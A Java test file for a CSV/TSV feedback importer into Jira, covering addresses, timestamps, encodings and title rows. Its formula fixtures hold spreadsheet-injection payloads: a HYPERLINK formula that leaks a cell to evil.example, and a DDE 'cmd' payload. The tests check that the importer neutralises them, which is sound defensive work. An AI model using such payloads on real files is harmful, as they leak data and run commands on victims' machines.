package io.roundtrip.cases;

import io.roundtrip.HostRule;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** Files as they lie about: what stands in their cells. */
final class ValueCases {
  private static final String ADDRESSES =
      "email,words\r\nm'bo.test@example.com,apostrophe\r\nada+nps@example.com,plus\r\n"
          + "\"\"\"fax7/+4953311\"\"@example.com\",quoted local part\r\n"
          + "schäfer7@example.com,umlaut local part\r\nada@[192.0.2.9],address literal\r\n"
          + "ada@jäger.example,idn\r\n\"Ada Quist <ada9@example.com>\",with name\r\n";
  private static final String FORMULAS =
      "words,email,nps\r\n"
          + "\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&B2,\"\"here\"\")\",ada@example.com,NPS\r\n"
          + "\"+1+cmd|' /C calc'!A0\",bo@example.com,NPS\r\n"
          + "\"@SUM(1)\",cy@example.com,NPS\r\n"
          + "-2+3,dee@example.com,NPS\r\n"
          + "'=quoted,eve@example.com,NPS\r\n";

  private final HostRule jira;

  ValueCases(HostRule jira) {
    this.jira = jira;
  }

  List<Case> all() {
    return List.of(
        Case.of("09 addresses of all kinds", "7 in, 0 rejected", this::addresses),
        Case.of(
            "11 lists in one cell",
            "3 in, 0 rejected: billing+ui | billing+ui | billing+ui",
            () -> tags("labels")),
        Case.of("18 rejects that a spreadsheet opens", "no cell runs", this::formulas),
        Case.of(
            "18 sent again as they are", "0 in, 5 rejected, the same file", this::formulasAgain),
        Case.of("18 mended and sent again", MENDED, this::formulasMended),
        Case.of("19 three rows of titles", "1 in, 0 rejected: Great", this::threeTitles),
        Case.of("19 two rows of titles", "1 in, 1 rejected: titles-again", this::twoTitles),
        Case.of("22 a long cell", "0 in, 1 rejected: too-long 32767 100011", this::longCell),
        Case.of("22 NUL in a cell", "1 in, 0 rejected: before after", this::nul),
        Case.of("23 times", "16 in, 0 rejected; no time: " + NO_TIMES, this::times),
        Case.of(
            "23 German Excel",
            "1 in, 0 rejected, semicolon, left out []: Rückgabe fehlt, 4, said"
                + " 2026-07-01T00:00:00Z",
            this::germanExcel),
        Case.of("24 tabs with quotes", SPREADSHEET, this::spreadsheetTabs),
        Case.of("27 yes and no", "3 in, 5 rejected: not-yes-or-no", this::booleans),
        Case.of("30 tabs without quotes", PLAIN, this::plainTabs));
  }

  private static final String MENDED =
      "5 in, 0 rejected: '=quoted | +1+cmd|' /C calc'!A0 | -2+3 |"
          + " =HYPERLINK(\"http://evil.example/?x=\"&B2,\"here\") | @SUM(1)";
  private static final String NO_TIMES = "us excel, epoch s, epoch ms, no such day";
  private static final String SPREADSHEET =
      "3 in, 0 rejected: 6'1\" tall | He wrote \"stop\", twice | Line one\r\nline two";
  private static final String PLAIN = "1 in, 0 rejected: It said \"\"stop\"\" and \\ then \\n died";

  private String addresses() {
    return Sent.csv(jira, ADDRESSES).counts();
  }

  private String tags(String field) {
    Sent sent =
        Sent.csv(
            jira,
            "words,email,labels\r\nStops,ada@example.com,\"billing, ui\"\r\n"
                + "Stops again,bo@example.com,billing;ui\r\nThree,cy@example.com,billing|ui\r\n");
    return sent.counts() + ": " + sent.all(field);
  }

  private Sent formulaFile() {
    return Sent.csv(jira, FORMULAS.replace("NPS", "99"));
  }

  private String formulas() {
    for (String cell : formulaFile().rejects().body().split("[,;\r\n]"))
      if (cell.matches("\"?[=+@-].*")) return "runs: " + cell;
    return "no cell runs";
  }

  private String formulasAgain() {
    Sent first = formulaFile();
    String file = first.rejects().body();
    Sent again = first.then("text/csv", file.getBytes(StandardCharsets.UTF_8));
    boolean same = again.rejects().body().equals(file);
    return again.counts() + ", " + (same ? "the same file" : again.rejects().body());
  }

  private String formulasMended() {
    Sent first = formulaFile();
    String mended = first.rejects().body().replace("\"99\"", "9").replace(",99\r", ",9\r");
    Sent again = first.then("text/csv", mended.getBytes(StandardCharsets.UTF_8));
    return again.counts() + ": " + again.all("description");
  }

  private String threeTitles() {
    Sent sent =
        Sent.csv(
            jira,
            "created,ResponseId,email,nps,words\r\n"
                + "Recorded Date,Response ID,Recipient Email,How likely (0-10)?,Why?\r\n"
                + "\"{\"\"ImportId\"\":\"\"recordedDate\"\"}\",\"{\"\"ImportId\"\":\"\"_recordId\"\"}\",\"{\"\"ImportId\"\":\"\"mail\"\"}\",\"{\"\"ImportId\"\":\"\"Q1\"\"}\",\"{\"\"ImportId\"\":\"\"Q2\"\"}\"\r\n"
                + "2026-04-01 10:04:00,R_7,ada@example.com,9,Great\r\n");
    return sent.counts() + ": " + sent.all("description");
  }

  private String twoTitles() {
    Sent sent =
        Sent.csv(
            jira,
            "created,email,nps,words\r\n"
                + "Response,Open-Ended Response,Response,Open-Ended Response\r\n"
                + "2026-04-01 10:04:00,ada@example.com,9,Great\r\n");
    return sent.counts() + ": " + sent.codes();
  }

  private String longCell() {
    Sent sent =
        Sent.csv(
            jira,
            "email,words\r\nada@example.com,\"" + "long words ".repeat(9091) + "1234567890\"\r\n");
    return sent.counts() + ": " + sent.codes() + " " + numbers(sent.messages());
  }

  private static String numbers(String message) {
    return String.join(
        " ",
        java.util.Arrays.stream(message.split("[^0-9,.]+")).filter(n -> n.length() > 3).toList());
  }

  private String nul() {
    Sent sent = Sent.csv(jira, "email,words\r\nada@example.com,\"before\0 after\"\r\n");
    return sent.counts() + ": " + sent.all("description");
  }

  private String times() {
    String file =
        """
        words,created
        offset without colon,2026-07-01T12:00:00.000+0200
        jira rest,2026-07-01T10:00:00.000+0000
        space and offset,2026-07-01 12:00:00 +0200
        rails utc,2026-07-01 10:00:00 UTC
        short offset,2026-07-01T12:00:00+02
        with colon,2026-07-01T12:00:00+02:00
        z,2026-07-01T10:00:00Z
        no zone,2026-07-01 10:00:00
        only day,2026-07-01
        google forms,2026/07/01 12:00:00 PM UTC+2
        jira csv,01/Jul/26 12:00 PM
        us excel,7/1/2026 10:00
        epoch s,1782900000
        epoch ms,1782900000000
        lower z,2026-07-01t10:00:00z
        no such day,2026-02-30
        """;
    Sent sent = Sent.csv(jira, file);
    List<String> lines = file.lines().toList();
    List<String> refused =
        sent.leftOut().stream()
            .map(line -> lines.get(Integer.parseInt(line) - 1).split(",")[0])
            .toList();
    return sent.counts() + "; no time: " + String.join(", ", refused);
  }

  private String germanExcel() {
    Sent sent =
        Sent.csv(
            jira,
            "Kunde;Wortlaut;CSAT;Datum\r\nJörg;Rückgabe fehlt;4,0;1.7.2026\r\n",
            Charset.forName("windows-1252"),
            "text/csv");
    return sent.counts()
        + ", %s, left out %s: %s, %s, said %s"
            .formatted(
                sent.text("separator"),
                sent.leftOut(),
                sent.all("description"),
                sent.all(jira.field("CSAT")),
                sent.said());
  }

  private String spreadsheetTabs() {
    Sent sent =
        Sent.tsv(
            jira,
            "words\temail\tnps\r\n"
                + "\"He wrote \"\"stop\"\", twice\"\tada@example.com\t3\r\n"
                + "\"Line one\r\n"
                + "line two\"\tbo@example.com\t4\r\n"
                + "6'1\" tall\tcy@example.com\t5\r\n");
    return sent.counts() + ": " + sent.all("description");
  }

  private String booleans() {
    StringBuilder file = new StringBuilder("words,email,consent\r\n");
    int row = 0;
    for (String word : "TRUE WAHR ja t on x FALSE opted_out".split(" "))
      file.append("w,c").append(++row).append("@example.com,").append(word).append("\r\n");
    Sent sent = Sent.csv(jira, file.toString());
    return sent.counts() + ": " + sent.codes();
  }

  private String plainTabs() {
    Sent sent =
        Sent.tsv(
            jira,
            "review_id\tstar_rating\treview_headline\treview_body\r\n"
                + "R7\t5\t\"Great\" they say\tIt said \"\"stop\"\" and \\ then \\n died\r\n");
    return sent.counts() + ": " + sent.all("description");
  }
}
